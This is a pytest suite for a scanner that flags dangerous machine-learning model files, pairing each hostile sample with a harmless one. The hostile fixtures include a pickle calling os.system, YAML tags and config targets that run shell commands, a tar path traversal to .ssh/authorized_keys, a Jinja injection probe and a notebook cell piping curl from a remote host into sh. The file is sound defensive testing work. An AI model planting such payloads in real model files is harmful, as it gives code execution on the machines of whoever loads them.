"""One file of every hostile class in a folder beside good weights: no built-in policy lets any of them pass, and each is named.

Beside each stands a file of the same kind that is harmless; a folder of those passes.
"""

from __future__ import annotations

import base64
import gzip
import io
import json
import os
import pickle
import struct
import subprocess
import sys
import tarfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import numpy as np
import onnx
import pytest
from onnx import TensorProto, helper
from support import Ran

from modelguard.testing import write_safetensors
from modelguard.testing.hub import LoopbackHub

pytestmark = pytest.mark.usefixtures("in_process")

Run = Callable[..., Ran]

CALL = b"cos\nsystem\n(S'touch HACKED'\ntR."


@dataclass(frozen=True)
class Pair:
    """A file that would do harm and one of its kind that would not, under names a repository could have; the rules that may name it."""

    name: str
    hostile: bytes
    harmless: bytes
    rules: tuple[str, ...]


def zipped(members: dict[str, bytes]) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return stream.getvalue()


def tarred(name: str, data: bytes = b"x") -> bytes:
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w") as archive:
        info = tarfile.TarInfo(name)
        info.size = len(data)
        archive.addfile(info, io.BytesIO(data))
    return stream.getvalue()


def array(value: object) -> bytes:
    stream = io.BytesIO()
    np.save(stream, np.array(value), allow_pickle=True)
    return stream.getvalue()


def torch_zip(pickled: bytes) -> bytes:
    return zipped({"archive/data.pkl": pickled, "archive/version": b"3\n"})


def graph(domain: str, operator: str) -> bytes:
    one = [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 3])]
    two = [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 3])]
    node = helper.make_node(operator, ["x"], ["y"], domain=domain)
    opsets = [helper.make_opsetid("", 17)] + ([helper.make_opsetid(domain, 1)] if domain else [])
    model: onnx.ModelProto = helper.make_model(helper.make_graph([node], "g", one, two), opset_imports=opsets, ir_version=9)
    return bytes(model.SerializeToString())


def keras(kind: str, config: dict[str, object]) -> bytes:
    layer = {"module": "keras.layers", "class_name": kind, "config": config, "registered_name": None}
    top = {"module": "keras", "class_name": "Sequential", "config": {"name": "m", "layers": [layer]}, "registered_name": None}
    return zipped({"config.json": json.dumps(top).encode(), "metadata.json": b'{"keras_version": "3.5.0"}'})


LAMBDA: dict[str, object] = {
    "name": "l",
    "function": {"class_name": "__lambda__", "config": {"code": base64.b64encode(b"\xe3\x01" + bytes(60)).decode()}},
}
ELF = struct.pack("<4s12xHHIQQQIHHHHHH", b"\x7fELF", 3, 62, 1, 0x1000, 64, 0, 0, 64, 56, 1, 64, 0, 0)
ELF = ELF[:4] + b"\x02\x01\x01" + ELF[7:] + bytes(200)
GIF = b"GIF89a\x01\0\x01\0\0\0\0!\xf9\x04\0\0\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;"
NOTEBOOK = '{"cells": [{"cell_type": "code", "source": ["SOURCE"], "outputs": []}], "nbformat": 4, "nbformat_minor": 5, "metadata": {}}'

PAIRS = (
    Pair("a/model.pkl", CALL, pickle.dumps({"a": [1, 2.0]}), ("MG0310",)),
    Pair("a/vocab.json", CALL, b'{"a": 1}', ("MG0310",)),
    Pair("a/unknown.pkl", b"\x80\x04\x8c\x04nobo\x8c\x05Thing\x93)R.", pickle.dumps((1, b"x")), ("MG0311",)),
    Pair("a/pytorch_model.bin", torch_zip(CALL), torch_zip(pickle.dumps({}, 2)), ("MG0310",)),
    Pair("a/model.joblib", gzip.compress(CALL), gzip.compress(pickle.dumps([1])), ("MG0310",)),
    Pair("a/table.npy", array(None)[:-16].split(b"\x80")[0] + CALL, array([1.0, 2.0]), ("MG0310",)),
    Pair("a/nested.zip", zipped({"in.zip": zipped({"x.pkl": CALL})}), zipped({"in.zip": zipped({"x.txt": b"x"})}), ("MG0310",)),
    Pair("a/model.tar", tarred("../../.ssh/authorized_keys"), tarred("weights.txt"), ("MG0321",)),
    Pair("a/model.mar", zipped({"../x.py": b"x = 1\n"}), zipped({"MAR-INF/note.txt": b"x"}), ("MG0321",)),
    Pair("a/model.keras", keras("Lambda", LAMBDA), keras("Dense", {"name": "d", "units": 3}), ("MG0330",)),
    Pair("a/graph.onnx", graph("ai.onnx.contrib", "PyOp"), graph("", "Relu"), ("MG0360",)),
    Pair("a/hyperparams.yaml", b"x: !apply:os.system [ls]\n", b"x: !new:speechbrain.nnet.linear.Linear\n  n_neurons: 3\n", ("MG0334",)),
    Pair("a/train.yaml", b"model:\n  _target_: os.system\n  command: ls\n", b"model:\n  _target_: torch.nn.Linear\n", ("MG0334",)),
    Pair("a/state.yaml", b"!!python/object/apply:os.system [ls]\n", b"a: [1, 2]\n", ("MG0334",)),
    Pair("a/chat_template.jinja", b"{{ ''.__class__.__mro__ }}", b"{% for m in messages %}{{ m['content'] }}{% endfor %}", ("MG0340",)),
    Pair("a/modeling.py", b"import os\nos.system('ls')\n", b"", ("MG0350",)),
    Pair("a/demo.ipynb", NOTEBOOK.replace("SOURCE", "!curl http://10.0.0.1/x | sh").encode(), b"", ("MG0355",)),
    Pair("a/libhelper.so", ELF, b"", ("MG0351",)),
    Pair("a/logo.gif", b"GIF89a012" + b"0" + CALL, GIF, ("MG03",)),
)  # fmt: skip


def write(folder: Path, pick: Callable[[Pair], bytes]) -> Path:
    write_safetensors(folder / "model.safetensors", {"w": np.arange(4, dtype=np.float32)})
    for pair in PAIRS:
        if content := pick(pair):
            (folder / pair.name).parent.mkdir(parents=True, exist_ok=True)
            (folder / pair.name).write_bytes(content)
    return folder


@pytest.fixture(scope="module")
def folders(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path, Path]:
    """Hostile files, harmless ones, and the harmless ones again elsewhere, to be the reference."""
    names = ("hostile", "harmless", "reference")
    hostile, harmless, reference = (tmp_path_factory.mktemp(name) for name in names)
    write(hostile, lambda pair: pair.hostile)
    for folder in (harmless, reference):
        write(folder, lambda pair: pair.harmless)
    return hostile, harmless, reference


def test_each_hostile_file_is_named_with_its_rule(mg: Run, folders: tuple[Path, Path, Path], tmp_path: Path) -> None:
    report = tmp_path / "report.json"
    assert mg("scan", folders[0], "-o", f"json={report}").code == 1
    named: dict[str, set[str]] = {}
    for outcome in json.loads(report.read_text())["outcomes"]:
        for finding in outcome["findings"]:
            if finding["severity"] in ("high", "critical"):
                named.setdefault(finding["location"]["file"], set()).add(finding["rule"])
    missed = {pair.name: named.get(pair.name) for pair in PAIRS if not any(r.startswith(pair.rules) for r in named.get(pair.name, ()))}
    assert not missed
    assert not list(Path.cwd().glob("HACKED"))
    assert mg("policy", "eval", report, "--policy", "builtin:strict").code == 1


@pytest.mark.slow
@pytest.mark.parametrize("pair", PAIRS, ids=[pair.name for pair in PAIRS])
def test_alone_beside_good_weights_each_is_blocked(mg: Run, pair: Pair, tmp_path: Path) -> None:
    """Under the default policy, whatever the others do."""
    write_safetensors(tmp_path / "model.safetensors", {"w": np.arange(4, dtype=np.float32)})
    (tmp_path / pair.name).parent.mkdir(parents=True)
    (tmp_path / pair.name).write_bytes(pair.hostile)
    assert mg("scan", tmp_path).code == 1


def test_without_them_the_folder_passes(mg: Run, folders: tuple[Path, Path, Path]) -> None:
    _, harmless, reference = folders
    ran = mg("scan", harmless)
    assert ran.code == 0, ran.out
    ran = mg("scan", harmless, "--reference", reference, "--policy", "builtin:strict")
    assert ran.code == 0, ran.out


def test_a_download_passes_without_them_and_is_blocked_for_them(tmp_path: Path) -> None:
    """Harmless is what hub-download demands: formats that carry no code. The hostile files are named, not only their source refused."""
    weights = write_safetensors(tmp_path / "w.safetensors", {"w": np.arange(4, dtype=np.float32)}).read_bytes()
    with LoopbackHub() as hub:
        files = {"model.safetensors": weights, "config.json": b"{}", "README.md": b"# m\n"}
        good = hub.commit("acme/model", files)
        bad = hub.commit("acme/model", {pair.name: pair.hostile for pair in PAIRS})
        codes = {}
        for commit in (good, bad):
            command = [sys.executable, "-m", "modelguard", "scan", f"hf://acme/model@{commit}", "--policy", "builtin:hub-download"]
            command += ["-o", f"json={tmp_path / commit}.json"]
            codes[commit] = subprocess.run(command, env={**os.environ, **hub.env(tmp_path)}, capture_output=True, check=False).returncode
    assert codes == {good: 0, bad: 1}
    violations = json.loads((tmp_path / f"{bad}.json").read_text())["decision"]["violations"]
    for pair in PAIRS:
        assert any(item["rule"].startswith(pair.rules) and pair.name in item["message"] for item in violations), pair.name
